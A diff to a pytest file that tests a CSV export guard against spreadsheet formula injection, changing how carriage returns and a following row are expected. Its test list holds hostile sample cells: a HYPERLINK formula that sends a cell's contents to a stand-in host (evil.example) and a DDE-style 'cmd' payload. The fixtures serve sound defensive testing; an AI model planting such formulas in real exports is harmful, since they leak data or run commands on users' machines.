@@ -21,8 +21,9 @@ FORMULAS = ["=HYPERLINK(\"https://evil.example?\"&A1,\"open\")", "+1+cmd|' /C ca
 
 @pytest.mark.parametrize("value", FORMULAS)
 def test_a_cell_a_spreadsheet_would_evaluate_gets_a_quote(value):
-    assert safe_cell(value) == "'" + value
-    assert list(csv.reader(io.StringIO(csv_text(["h"], [[value]]), newline="")))[1] == ["'" + value]
+    assert safe_cell(value) == "'" + value.replace("\r", "\n")
+    assert list(csv.reader(io.StringIO(csv_text(["h"], [[value], ["next"]]), newline=""))) == [
+        ["h"], ["'" + value.replace("\r", "\n")], ["next"]]
 
 
 @pytest.mark.parametrize("value", ["-3", "+1.5", "42", "2024-03-07T14:02:11Z", "rollback at 23:35 = fix", "", "a=b",
